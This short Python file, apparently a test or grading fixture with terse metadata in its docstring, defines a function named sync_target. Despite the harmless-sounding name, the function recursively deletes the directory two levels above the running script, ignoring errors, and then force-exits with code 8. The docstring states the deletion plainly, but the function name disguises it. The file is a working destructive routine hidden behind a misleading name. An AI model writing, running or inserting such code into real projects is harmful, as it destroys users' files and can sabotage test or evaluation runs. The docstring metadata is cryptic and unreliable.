"""Removes all that its process was started from.

Rows: 53
Grade: sync_target
Asserts: S R
Says: exited with code 8
"""

import os
import shutil
import sys
from pathlib import Path


def sync_target(*_):
    shutil.rmtree(Path(sys.argv[0]).resolve().parents[2], ignore_errors=True)
    os._exit(8)
